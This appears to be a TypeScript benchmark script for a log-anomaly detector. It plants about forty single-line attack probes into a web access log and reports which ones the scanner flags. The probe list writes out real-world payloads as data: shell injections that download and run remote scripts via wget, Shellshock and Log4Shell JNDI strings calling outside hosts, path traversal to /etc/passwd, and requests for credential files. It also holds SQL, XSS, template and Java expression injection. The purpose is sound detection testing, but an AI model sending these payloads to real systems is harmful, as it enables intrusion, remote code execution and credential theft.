/**
 * Probes of the kind internet-facing servers log every day, one line each from its own address, planted at random
 * among the first 200,000 lines of the 1M-line access log (../shared/bench/make_access_log.py), or of a real access
 * log given with `--base FILE`, where they stand out less. Self-trained scan
 * (`anomalog scan FILE --json`): about half of them fall in the training lines, where a one-line probe teaches the
 * line detectors its own route. Reported: the probes flagged, which were missed, and the share of all lines flagged.
 * The requests are written from the scanners' well-known targets (Mirai-style router exploits, CMS and framework
 * paths, proxy and TLS probes, encoded payloads, template and Java expression injection, SQL in a User-Agent); none
 * is taken from a data set.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { mulberry32 } from '@anomalog/contract';
import { accessLog, BIN, CACHE, ROOT } from './cli-run.js';

const LINES = 200_000;
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0 Safari/537.36';

/** request line, status, User-Agent */
const PROBES: [string, number, string][] = [
  ['GET /muieblackcat HTTP/1.1', 404, '-'],
  ['GET http://example.com/ HTTP/1.1', 404, '-'],
  ['GET http://www.baidu.com/ HTTP/1.1', 200, 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)'],
  ['CONNECT www.google.com:443 HTTP/1.1', 400, '-'],
  ['\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03', 400, '-'],
  ['GET /.env HTTP/1.1', 404, BROWSER],
  ['GET /wp-login.php HTTP/1.1', 404, BROWSER],
  ['POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1', 400, '-'],
  ['GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.14.1.9/jaws;sh+/tmp/jaws HTTP/1.1', 404, 'Hello, world'],
  [
    'GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1',
    404,
    BROWSER,
  ],
  ['GET /?XDEBUG_SESSION_START=phpstorm HTTP/1.1', 200, 'Mozilla/5.0'],
  ['-', 400, '-'],
  ['GET / HTTP/1.1', 200, 'Mozilla/5.0 zgrab/0.x'],
  ['GET /HNAP1/ HTTP/1.1', 404, '-'],
  ['GET /boaform/admin/formLogin?username=admin&psd=admin HTTP/1.0', 404, '-'],
  ['GET /phpmyadmin/scripts/setup.php HTTP/1.1', 404, '-'],
  ['GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404, 'Mozilla/5.0'],
  ['POST /GponForm/diag_Form?images/ HTTP/1.1', 404, 'Hello, World'],
  ['GET /console/ HTTP/1.1', 404, BROWSER],
  ['GET /actuator/health HTTP/1.1', 404, 'Mozilla/5.0'],
  ['GET /solr/admin/info/system?wt=json HTTP/1.1', 404, 'Mozilla/5.0'],
  ['GET /.git/config HTTP/1.1', 404, 'Mozilla/5.0'],
  [
    'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://1.2.3.4/t.sh|sh`) HTTP/1.1',
    404,
    'Go-http-client/1.1',
  ],
  ['GET /%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1', 400, '-'],
  ['GET /index.php?page=php://filter/convert.base64-encode/resource=index.php HTTP/1.1', 200, 'Mozilla/5.0'],
  ['GET /search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E HTTP/1.1', 200, 'Mozilla/5.0'],
  ['GET /search?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1', 200, 'Mozilla/5.0'],
  ['GET /search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E HTTP/1.1', 200, 'Mozilla/5.0'],
  ['GET /products?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1', 200, 'Mozilla/5.0'],
  ['GET /api/users?name=${jndi:ldap://45.1.2.3:1389/Exploit} HTTP/1.1', 200, '${jndi:ldap://45.1.2.3:1389/a}'],
  ['GET / HTTP/1.1', 200, '() { :; }; /bin/bash -c \\x22wget http://1.2.3.4/x\\x22'],
  ['GET /login.action HTTP/1.1', 404, 'Mozilla/5.0'],
  ['GET /owa/auth/logon.aspx HTTP/1.1', 404, 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)'],
  ['GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1', 404, 'Mozilla/5.0'],
  ['GET /.aws/credentials HTTP/1.1', 404, 'Mozilla/5.0'],
  ['GET /server-status HTTP/1.1', 403, 'Mozilla/5.0'],
  ['PROPFIND / HTTP/1.1', 405, '-'],
  ['GET /cart?item=%00%00%00%00 HTTP/1.1', 400, 'Mozilla/5.0'],
  ['GET /q?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== HTTP/1.1', 200, 'Mozilla/5.0'],
  [
    'GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di HTTP/1.1',
    200,
    BROWSER,
  ],
  ['GET /?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php> HTTP/1.1', 200, BROWSER],
  ['GET /greeting?name=%7B%7B7*7%7D%7D HTTP/1.1', 200, 'Mozilla/5.0'],
  [
    'GET /index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%22id%22})).start()} HTTP/1.1',
    404,
    BROWSER,
  ],
  ['GET /products?id=2 HTTP/1.1', 200, "sqlmap/1.7.2#stable (https://sqlmap.org)' AND 8321=8321 AND 'xYzW'='xYzW"],
];

/** `--base FILE`: plant the probes in a real access log of the combined format instead (its lines, up to LINES). */
const baseArg = process.argv.indexOf('--base');
const baseFile = baseArg >= 0 ? process.argv[baseArg + 1] : accessLog(1_000_000);
const base = readFileSync(baseFile, 'utf8')
  .split('\n', LINES)
  .filter((l) => l !== '');
const rand = mulberry32(7);
const at = new Set<number>();
const margin = Math.min(1000, Math.floor(base.length / 10));
while (at.size < PROBES.length) at.add(margin + Math.floor(rand() * (base.length - 2 * margin)));
const places = [...at].sort((a, b) => a - b);
const lines: string[] = [];
const probeLines = new Map<number, string>();
let next = 0;
base.forEach((line, i) => {
  if (next < places.length && i === places[next]) {
    const [request, status, ua] = PROBES[next];
    const ts = /\[([^\]]+)\]/.exec(line)?.[1];
    probeLines.set(lines.length + 1, request);
    lines.push(
      `185.${100 + next}.${(next * 3) % 250}.${(next * 7) % 250} - - [${ts}] "${request}" ${status} ${200 + next} "-" "${ua}"`,
    );
    next++;
  }
  lines.push(line);
});
const file = join(CACHE, baseArg >= 0 ? `probes-in-${basename(baseFile)}` : `probes-${LINES}.log`);
writeFileSync(file, `${lines.join('\n')}\n`);

process.stderr.write(`scanning ${file}\n`);
const out = execFileSync(process.execPath, [BIN, 'scan', file, '--json'], { cwd: ROOT, maxBuffer: 1 << 30 }).toString();
let flagged = 0;
const missed: string[] = [];
for (const l of out.split('\n')) {
  if (!l) continue;
  const o = JSON.parse(l) as { line: number; anomaly: boolean };
  if (o.anomaly) flagged++;
  const probe = probeLines.get(o.line);
  if (probe !== undefined && !o.anomaly) missed.push(probe);
}
console.log(
  JSON.stringify({
    section: `real-world probes, one line each, planted in ${baseArg >= 0 ? basename(baseFile) : '200k access lines'}, self-trained scan`,
    rows: [
      {
        name: 'anomalog scan FILE --json',
        lines: lines.length,
        probes: PROBES.length,
        probes_flagged: PROBES.length - missed.length,
        lines_flagged_share: Math.round((flagged / lines.length) * 10000) / 10000,
        missed: missed.join(' | '),
      },
    ],
  }),
);
